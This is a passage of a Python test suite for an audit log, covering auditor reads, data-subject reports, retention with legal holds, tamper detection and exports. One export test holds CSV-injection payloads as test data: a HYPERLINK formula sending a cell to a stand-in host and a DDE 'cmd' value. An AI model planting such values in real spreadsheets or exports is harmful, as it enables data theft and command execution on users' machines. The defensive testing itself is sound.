    assert read["record_type"] == "audit_read"
    assert read["caller"] == key_name(AUDITOR)
    assert read["request_id"] == "read-1"
    assert read["client_id"] == world.client
    assert read["details"]["read"] == "decisions"
    assert read["details"]["question"]["client"] == world.client
    assert read["details"]["question"]["decision"] is True
    assert read["details"]["answered"] == 1
    assert abs(moment(read) - datetime.now(UTC)) < timedelta(minutes=1)
    # a read of reads is recorded too, and reads never show among decisions
    assert reads_with(auditor, "routine audit check", client=world.client)
    assert all(r["record_type"] == "decision" for r in read_log(auditor, client=world.client))


# -- 5. the data-subject report ----------------------------------------------------------


def test_data_subject_report(admin: httpx.Client, named_pep: httpx.Client,
                             auditor: httpx.Client, world: World) -> None:
    colleague = f"{world.p}-u2"
    world.put("users", colleague, {"municipality": "749", "display_name": "Toinen",
                                   "tasks": ["coaching"], "status": "active"})
    world.import_grant(f"{world.p}-g2", world.grant_data(user=colleague))
    second = world.request(category="name_contact")
    second["subject"]["id"] = colleague
    for body in (world.request(), world.request(action="write"), second,
                 world.request(category="benefits"), world.request(purpose="guidance")):
        pep_post(named_pep, "/access/v1/evaluation", body)
    decisions = read_log(auditor, client=world.client)
    allowed = [r for r in decisions if r["decision"]]
    assert len(allowed) == 3
    days = {moment(r).date().isoformat() for r in allowed}

    justification = f"data-subject request {uuid.uuid4()}"
    response = auditor.get(f"/v1/audit/clients/{world.client}/report",
                           params={"justification": justification})
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["client"] == world.client and report["employee_identities"] is False
    assert [a["date"] for a in report["accesses"]] == sorted(days)
    for access in report["accesses"]:
        assert access["organisation"] == {"municipality": "749", "name": "Siilinjärvi"}
        assert access["purpose"] == "coaching"
        assert "users" not in access
    assert sorted({c for a in report["accesses"] for c in a["categories"]}) == [
        "name_contact", "service_needs_plans"]  # denied benefits is not an access
    assert sorted({c for a in report["accesses"] for c in a["actions"]}) == ["read", "write"]
    assert world.user not in response.text and colleague not in response.text

    named = auditor.get(f"/v1/audit/clients/{world.client}/report",
                        params={"justification": justification, "include_users": "true"})
    assert named.status_code == 200, named.text
    assert named.json()["employee_identities"] is True
    assert sorted({u for a in named.json()["accesses"] for u in a["users"]}) == sorted(
        [world.user, colleague])

    reads = reads_with(auditor, justification, client=world.client)
    assert [r["details"]["read"] for r in reads] == ["client_report", "client_report"]
    assert [r["details"]["question"]["include_users"] for r in reads] == [False, True]
    assert all(r["caller"] == key_name(AUDITOR) for r in reads)
    assert [r["details"]["answered"] for r in reads] == [3, 3]


# -- 6. retention and legal holds --------------------------------------------------------

FUTURE = "2100-01-01T00:00:00+02:00"
RETENTION_DAYS = 1826  # PDP_AUDIT_RETENTION_DAYS' default
OLD_DAYS = 2000  # how old the seeded records are: past the retention


def days_ago(days: float) -> datetime:
    return datetime.now(UTC) - timedelta(days=days)


class Retention:
    """A server of its own on a log that holds records older than the retention (seeded
    before it starts, of two clients, one of them under a legal hold) and the recent
    decisions of two worlds."""

    def __init__(self, tmp: Path) -> None:
        (tmp / "server").mkdir()
        self.tmp = tmp
        self.db = db_of(tmp / "server")
        self.held_client, self.other_client = f"old-held-{uuid.uuid4().hex[:8]}", \
            f"old-other-{uuid.uuid4().hex[:8]}"
        self.old: dict[str, list[str]] = {self.held_client: [], self.other_client: []}
        self.seed()
        self.server = audit_app(tmp / "server")
        self.admin = self.server.client("t-admin")
        self.pep = self.server.client("t-pep")
        self.auditor = self.server.client(AUDITOR)
        self.held, self.other = World(self.admin).build(), World(self.admin).build()
        self.made: dict[str, list[str]] = {self.held.client: [], self.other.client: []}
        for n in range(4):
            for world in (self.other, self.held):
                body = world.request(category=["benefits", "name_contact"][n % 2])
                result = pep_post(self.pep, "/access/v1/evaluation", body)
                self.made[world.client].append(result["context"]["decision_id"])
        read_log(self.auditor, client=self.other.client)  # a recent audit_read too
        hold = self.auditor.post("/v1/audit/holds", json={"client": self.held_client,
                                                          "reason": "court case 12/2026"})
        assert hold.status_code == 201, hold.text
        assert hold.json()["client"] == self.held_client
        assert hold.json()["created_by"] == key_name(AUDITOR)
        self.hold_id: str = hold.json()["id"]
        listed = self.auditor.get("/v1/audit/holds").json()["holds"]
        assert [h["id"] for h in listed if h["released_at"] is None] == [self.hold_id]

    def seed(self) -> None:
        """Decisions and a read of OLD_DAYS ago, written as the service writes them."""
        store = open_store(f"sqlite:///{self.db}")
        log = AuditLog(store.engine)
        records = []
        for n in range(4):
            for client in (self.other_client, self.held_client):
                record_id = uuid.uuid4().hex
                self.old[client].append(record_id)
                records.append(AuditRecord(
                    "decision", record_id, to_micros(days_ago(OLD_DAYS)) + n, user_id="u-old",
                    user_municipality="749", client_id=client, client_municipality="749",
                    category="name_contact", action="read", purpose="coaching",
                    decision=False, reason="no_active_grant", policy_version="old"))
        records.append(AuditRecord("audit_read", uuid.uuid4().hex,
                                   to_micros(days_ago(OLD_DAYS)) + 9, caller="old-auditor",
                                   details='{"read": "decisions"}'))
        log.write(records)
        log.stop()
        store.close()

    def prune(self, *args: str) -> int:
        done = pdp_cli(self.db, "audit", "prune", *args)
        assert done.returncode == 0, done.stdout + done.stderr
        assert done.stdout.startswith("pruned ")
        return int(done.stdout.split()[1])

    def count(self) -> int:
        return int(sql(self.db, "SELECT count(*) FROM audit_records")[0][0])

    def assert_verifies(self) -> None:
        verified = pdp_cli(self.db, "audit", "verify")
        assert verified.returncode == 0, verified.stdout + verified.stderr
        assert verified.stdout.startswith("ok: ")
        over_http = self.auditor.get("/v1/audit/verify")
        assert over_http.status_code == 200, over_http.text
        assert over_http.json()["ok"] is True, over_http.json()

    def close(self) -> None:
        for client in (self.admin, self.pep, self.auditor):
            client.close()
        stop_app(self.server)


@pytest.fixture
def retention(tmp_path: Path) -> Iterator[Retention]:
    running = Retention(tmp_path)
    yield running
    running.close()


def test_prune_keeps_held_records_and_the_chain_verifies(retention: Retention) -> None:
    held = retention.held_client
    total = retention.count()
    old_other = sql(retention.db, "SELECT count(*) FROM audit_records WHERE at_us < ?",
                    (to_micros(days_ago(RETENTION_DAYS)),))[0][0] - len(retention.old[held])
    assert old_other == len(retention.old[retention.other_client]) + 1  # and the old read
    assert retention.prune() == old_other  # the default: the retention before now
    left = {rid for (rid,) in sql(retention.db, "SELECT record_id FROM audit_records")}
    assert set(retention.old[held]) <= left
    assert not set(retention.old[retention.other_client]) & left
    recent = {*retention.made[retention.held.client], *retention.made[retention.other.client]}
    assert recent <= left  # younger than the retention: kept
    first = pdp_cli(retention.db, "audit", "verify")
    kept = total - old_other
    assert first.stdout.startswith(f"ok: {kept} records, head {total}"), first.stdout
    retention.assert_verifies()


def test_pruning_inside_the_retention_period_is_refused_naming_the_limit(
        retention: Retention) -> None:
    """Before, `pdp audit prune --before 2100-01-01T00:00:00+02:00` removed every record
    not under a hold, yesterday's decisions too: the five years of retention were a
    default, not a rule."""
    before = record_ids(retention.db)
    inside = days_ago(RETENTION_DAYS - 30).isoformat()
    for cutoff in (FUTURE, datetime.now(UTC).isoformat(), inside):
        refused = pdp_cli(retention.db, "audit", "prune", "--before", cutoff)
        assert refused.returncode == 2, refused.stdout + refused.stderr
        assert refused.stdout == ""
        message = refused.stderr
        assert "PDP_AUDIT_RETENTION_DAYS" in message and f"{RETENTION_DAYS} days" in message
        limit = datetime.fromisoformat(message.split("the limit is ")[1].split(",")[0])
        assert abs(limit - days_ago(RETENTION_DAYS)) < timedelta(minutes=5)
    assert record_ids(retention.db) == before  # nothing was removed

    # A longer retention keeps what the default would prune; the cutoff names it too.
    longer = subprocess.run(
        [sys.executable, "-m", "pdp", "audit", "prune", "--before",
         days_ago(OLD_DAYS - 10).isoformat()],
        capture_output=True, text=True, cwd=retention.db.parent, timeout=60,
        env={**{k: v for k, v in os.environ.items() if not k.startswith("PDP_")},
             "PDP_DATABASE_URL": f"sqlite:///{retention.db}",
             "PDP_AUDIT_RETENTION_DAYS": str(OLD_DAYS + 100)})
    assert longer.returncode == 2 and f"{OLD_DAYS + 100} days" in longer.stderr, longer.stderr
    assert record_ids(retention.db) == before

    # At the limit or before it, a prune goes on; the held records stay all the same.
    assert retention.prune("--before", days_ago(RETENTION_DAYS + 1).isoformat()) == len(
        retention.old[retention.other_client]) + 1
    assert set(retention.old[retention.held_client]) <= record_ids(retention.db)
    retention.assert_verifies()


def test_deleting_a_held_record_from_a_pruned_log_is_detected(retention: Retention) -> None:
    retention.prune()
    retention.assert_verifies()
    doctored = copy_db(retention.db, retention.tmp / "doctored" / "facts.sqlite3")
    deleted = retention.old[retention.held_client][1]
    (gone,) = sql(doctored, "SELECT seq FROM audit_records WHERE record_id = ?", (deleted,))[0]
    sql(doctored, "DELETE FROM audit_records WHERE record_id = ?", (deleted,))
    caught = pdp_cli(doctored, "audit", "verify")
    assert caught.returncode == 1, caught.stdout + caught.stderr
    # Like a deletion in the middle: the next record still there is the first bad one.
    (following,) = sql(doctored, "SELECT min(seq) FROM audit_records WHERE seq > ?",
                       (gone,))[0]
    assert caught.stdout.startswith(f"BAD: record {following} ("), caught.stdout
    low, high = (int(n) for n in caught.stdout.split("records ")[1].split(" ")[0].split("-"))
    assert low <= gone <= high and "before it are missing" in caught.stdout


def test_a_released_hold_no_longer_protects(retention: Retention) -> None:
    held = retention.held_client
    retention.prune()
    released = retention.auditor.delete(f"/v1/audit/holds/{retention.hold_id}",
                                        params={"reason": "the case is closed"})
    assert released.status_code == 200, released.text
    again = retention.auditor.delete(f"/v1/audit/holds/{retention.hold_id}",
                                     params={"reason": "the case is closed"})
    assert again.status_code == 404 and again.json()["error"]["code"] == "not_found"
    listed = retention.auditor.get("/v1/audit/holds").json()["holds"]
    assert [h["released_at"] is not None for h in listed] == [True]
    assert retention.prune() == len(retention.old[held])
    left = record_ids(retention.db)
    assert not left & set(retention.old[held])
    assert sql(retention.db, "SELECT count(*) FROM audit_records WHERE at_us < ?",
               (to_micros(days_ago(RETENTION_DAYS)),)) == [(0,)]
    assert set(retention.made[retention.held.client]) <= left  # recent: still kept
    retention.assert_verifies()


def hold_events(client: httpx.Client, hold_id: str) -> list[dict[str, Any]]:
    response = client.get("/v1/events", params={"limit": 1000})
    assert response.status_code == 200, response.text
    return [e for e in response.json()["events"] if e["subject"] == {
        "kind": "audit_hold", "id": hold_id}]


def test_releasing_a_hold_needs_a_reason_and_is_recorded_and_an_event(
        retention: Retention) -> None:
    """Before, DELETE /v1/audit/holds/{id} released a hold with no reason, recorded no one
    and left no event: the protection of a court case's records could vanish without a
    trace."""
    auditor, hold_id = retention.auditor, retention.hold_id
    path = f"/v1/audit/holds/{hold_id}"
    placed = hold_events(auditor, hold_id)
    assert [(e["type"], e["actor"], e["reason"]) for e in placed] == [
        ("audit_hold.placed", key_name(AUDITOR), "court case 12/2026")]
    assert placed[0]["data"]["hold"]["client"] == retention.held_client

    for refused in (auditor.delete(path), auditor.delete(path, params={"reason": ""}),
                    auditor.delete(path, params={"reason": " \t  "}),
                    auditor.request("DELETE", path, json={}),
                    auditor.request("DELETE", path, json={"reason": 7})):
        assert refused.status_code == 400, refused.text
        assert refused.json()["error"]["code"] == "invalid_request"
    with retention.server.client("t-pep") as pep:
        assert pep.delete(path, params={"reason": "not mine"}).status_code == 403
    assert [h["released_at"] for h in auditor.get("/v1/audit/holds").json()["holds"]] == [None]

    # A release whose event cannot be written does not happen (one transaction).
    sql(retention.db, "ALTER TABLE events RENAME TO events_away")
    try:
        failed = auditor.delete(path, params={"reason": "closed"})
        assert failed.status_code == 503, failed.text
        assert failed.json()["error"]["code"] == "audit_unavailable"
    finally:
        sql(retention.db, "ALTER TABLE events_away RENAME TO events")
    assert [h["released_at"] for h in auditor.get("/v1/audit/holds").json()["holds"]] == [None]
    assert len(hold_events(auditor, hold_id)) == 1

    released = auditor.request("DELETE", path, json={"reason": "judgment final 3/2027"})
    assert released.status_code == 200, released.text
    body = released.json()
    assert body["released"] is True and body["released_at"]
    assert (body["released_by"], body["release_reason"]) == (
        key_name(AUDITOR), "judgment final 3/2027")
    (listed,) = auditor.get("/v1/audit/holds").json()["holds"]
    assert (listed["released_by"], listed["release_reason"]) == (
        key_name(AUDITOR), "judgment final 3/2027")
    events = hold_events(auditor, hold_id)
    assert [(e["type"], e["actor"], e["reason"]) for e in events] == [
        ("audit_hold.placed", key_name(AUDITOR), "court case 12/2026"),
        ("audit_hold.released", key_name(AUDITOR), "judgment final 3/2027")]
    assert events[1]["data"]["hold"]["released_by"] == key_name(AUDITOR)
    again = auditor.delete(path, params={"reason": "once more"})
    assert again.status_code == 404, again.text
    assert len(hold_events(auditor, hold_id)) == 2


# -- 7. export ---------------------------------------------------------------------------

BASE = datetime(2024, 3, 1, 10, 0, tzinfo=UTC)


def _records(count: int, start: datetime = BASE, step: timedelta = timedelta(seconds=1),
             ) -> list[AuditRecord]:
    return [AuditRecord(
        "decision", f"{n:032x}", to_micros(start + n * step), user_id=f"u-{n % 97}",
        user_municipality="749", grant_id=f"g-{n % 97}", client_id=f"c-{n % 1013}",
        client_municipality="749", category="service_needs_plans", action="read",
        purpose="coaching", decision=bool(n % 3), reason="allowed" if n % 3 else "no_active_grant",
        policy_version="sha256:" + "a" * 64, facts_version=n, request_id=f"req-{n}",
        caller="pep-portal") for n in range(count)]


def _written_log(db: Path, count: int) -> AuditLog:
    store = open_store(f"sqlite:///{db}")
    log = AuditLog(store.engine)
    records = _records(count)
    for first in range(0, count, 2000):
        log.write(records[first:first + 2000])
    log.stop()
    return log


# 10:00:03Z inclusive .. 10:00:07Z exclusive of a log of ten records a second apart from
# BASE: records 3..6, seq 4..7
SINCE = (BASE + timedelta(seconds=3)).astimezone(TWO_HOURS_EAST).isoformat()
UNTIL = (BASE + timedelta(seconds=7)).isoformat()


@pytest.fixture
def ten_records(tmp_path: Path) -> Path:
    db = tmp_path / "facts.sqlite3"
    _written_log(db, 10).engine.dispose()
    return db


def test_export_jsonl_gives_exactly_the_records_of_the_range(ten_records: Path) -> None:
    done = pdp_cli(ten_records, "audit", "export", "--from", SINCE, "--until", UNTIL,
                   "--format", "jsonl")
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["seq"] for r in lines] == [4, 5, 6, 7]
    assert [r["record_id"] for r in lines] == [f"{n:032x}" for n in range(3, 7)]
    assert all(set(RECORD_FIELDS) <= set(r) and r["hash"] for r in lines)
    # the export is a read of the log, and recorded as one
    assert sql(ten_records, "SELECT count(*) FROM audit_records "
                            "WHERE record_type = 'audit_read'") == [(1,)]


def test_export_csv_gives_exactly_the_records_of_the_range(ten_records: Path) -> None:
    out = ten_records.parent / "export.csv"
    done = pdp_cli(ten_records, "audit", "export", "--from", SINCE, "--until", UNTIL,
                   "--format", "csv", "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0] == ["seq", *RECORD_FIELDS, "prev_hash", "hash"]
    assert [int(row[0]) for row in rows[1:]] == [4, 5, 6, 7]
    assert [row[2] for row in rows[1:]] == [f"{n:032x}" for n in range(3, 7)]

    everything = pdp_cli(ten_records, "audit", "export", "--until", UNTIL, "--format", "csv")
    assert everything.returncode == 0, everything.stderr
    rows = list(csv.reader(io.StringIO(everything.stdout)))
    assert [int(row[0]) for row in rows[1:]] == list(range(1, 8))
    assert sql(ten_records, "SELECT count(*) FROM audit_records "
                            "WHERE record_type = 'audit_read'") == [(2,)]


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """A caller's text (purpose, X-Request-ID, a key's name) went into the CSV as it was:
    opened in a spreadsheet, `=HYPERLINK(...)` ran as a formula (OWASP CSV injection)."""
    db = tmp_path / "facts.sqlite3"
    store = open_store(f"sqlite:///{db}")
    log = AuditLog(store.engine)
    evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "plain", "mid=dle"]
    log.write([AuditRecord(
        "decision", f"{n:032x}", to_micros(BASE + n * timedelta(seconds=1)), user_id="u-1",
        client_id="c-1", purpose=text, decision=False, reason="purpose_invalid",
        facts_version=-n, request_id=text, caller=text) for n, text in enumerate(evil)])
    log.stop()
    store.close()

    out = tmp_path / "export.csv"
    done = pdp_cli(db, "audit", "export", "--until", FUTURE, "--format", "csv",
                   "--out", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as exported:
        rows = [r for r in csv.DictReader(exported) if r["record_type"] == "decision"]
    for field in ("purpose", "request_id", "caller"):
        assert [r[field] for r in rows] == [
            ("'" + text) if text[0] in "=+-@\t\r" else text for text in evil], field
    assert [r["facts_version"] for r in rows] == [str(-n) for n in range(len(evil))]
    for row in rows:
        for cell in row.values():
            assert not cell or (cell[0] not in "=+@\t\r" and not (
                cell[0] == "-" and not cell.lstrip("-").isdigit())), cell
    # JSONL keeps every value exactly
    exact = pdp_cli(db, "audit", "export", "--until", FUTURE, "--format", "jsonl")
    lines = [json.loads(line) for line in exact.stdout.splitlines()]
    assert [r["purpose"] for r in lines if r["record_type"] == "decision"] == evil


def _export_peak(log: AuditLog, fmt: str) -> tuple[int, int]:
    for _ in log.export(until_us=0, fmt=fmt):  # warm up: compiled statements, connections
        pass
    tracemalloc.start()
    try:
        lines = 0
        for _ in log.export(fmt=fmt):
            lines += 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return lines, peak


@pytest.fixture(scope="module")
def small_and_large(tmp_path_factory: pytest.TempPathFactory
                    ) -> Iterator[tuple[AuditLog, AuditLog]]:
    tmp = tmp_path_factory.mktemp("export")
    small = _written_log(tmp / "small.sqlite3", 2_000)
    large = _written_log(tmp / "large.sqlite3", 20_000)
    yield small, large
    small.engine.dispose()
    large.engine.dispose()


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_runs_in_constant_memory(fmt: str,
                                        small_and_large: tuple[AuditLog, AuditLog]) -> None:
    small, large = small_and_large
    header = 1 if fmt == "csv" else 0
    small_lines, small_peak = _export_peak(small, fmt)
    large_lines, large_peak = _export_peak(large, fmt)
    assert (small_lines, large_lines) == (2_000 + header, 20_000 + header)
    assert large_peak < 2 * small_peak, (small_peak, large_peak)


# -- segments on PostgreSQL: two writers and their indexers on one database ------------------

def test_two_logs_on_one_postgresql_chain_every_record_once() -> None:
    """Two processes' logs (two AuditLog objects, as two replicas) write segments at once
    and index each other's: every record lands once in the record chain, which verifies."""
    from pdp.store.sql import open_store
    from tests.support.pg import PG_HOST, PG_PORT, fresh_database

    with fresh_database("pdp_audit") as name:
        store = open_store(f"postgresql+psycopg://postgres@{PG_HOST}:{PG_PORT}/{name}")
        logs = [AuditLog(store.engine, index_delay=0.0), AuditLog(store.engine,
                                                                 index_delay=0.05)]
        seen: list[list[AuditRecord]] = [[], []]
        for log, mine in zip(logs, seen, strict=True):
            log.move_listeners.append(mine.extend)
            log.start()
        written: list[str] = []
        lock = threading.Lock()

        def write(log: AuditLog, worker: int) -> None:
            for n in range(40):
                ids = [uuid.uuid4().hex for _ in range(1 + n % 3)]
                log.write([AuditRecord("decision", i, 1_800_000_000_000_000 + n,
                                       user_id=f"u-{worker}", decision=True, reason="allowed")
                           for i in ids])
                with lock:
                    written.extend(ids)

        threads = [threading.Thread(target=write, args=(logs[w % 2], w)) for w in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        try:
            result = logs[0].verify()
            assert result.ok, result
            with store.engine.connect() as conn:
                ids = [row[0] for row in conn.exec_driver_sql(
                    "SELECT record_id FROM audit_records WHERE record_type = 'decision' "
                    "ORDER BY seq")]
                pending = conn.exec_driver_sql("SELECT count(*) FROM audit_segments").scalar()
            assert pending == 0
            assert sorted(ids) == sorted(written) and len(ids) == len(set(ids))
            # Each record was handed to exactly one process's misuse detection.
            observed = [r.record_id for r in seen[0] + seen[1] if r.record_type == "decision"]
            assert sorted(observed) == sorted(written)
        finally:
            for log in logs:
                log.stop()
            store.close()


def test_a_move_whose_heads_moved_meanwhile_moves_nothing_twice(
        pending_db: tuple[Path, list[list[str]]], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """move_segments reads and hashes outside the write lock, so another process may move
    the same segments in between: then this one moves nothing, and no record is chained
    twice (here the other process is a move run from inside the first's hashing)."""
    from pdp.audit import log as audit_log
    from pdp.store.sql import create_store_engine

    source, segments = pending_db
    db = copy_db(source, tmp_path / "facts.sqlite3")
    engine = create_store_engine(f"sqlite:///{db}")
    real = audit_log._chained_rows
    inner: list[list[AuditRecord]] = []

    def meanwhile(*args: Any) -> Any:
        if not inner:
            monkeypatch.setattr(audit_log, "_chained_rows", real)
            inner.append(audit_log.move_segments(engine, 10_000))
        return real(*args)

    monkeypatch.setattr(audit_log, "_chained_rows", meanwhile)
    assert audit_log.move_segments(engine, 10_000) == []
    moved = inner[0]
    assert [r.record_id for r in moved] == [i for segment in segments for i in segment]
    assert sql(db, "SELECT count(*) FROM audit_segments") == [(0,)]
    assert sql(db, "SELECT count(*), count(DISTINCT record_id) FROM audit_records") == [
        (len(moved), len(moved))]
    engine.dispose()
    done = pdp_cli(db, "audit", "verify")
    assert done.returncode == 0 and done.stdout.startswith(f"ok: {len(moved)} records"), (
        done.stdout + done.stderr)
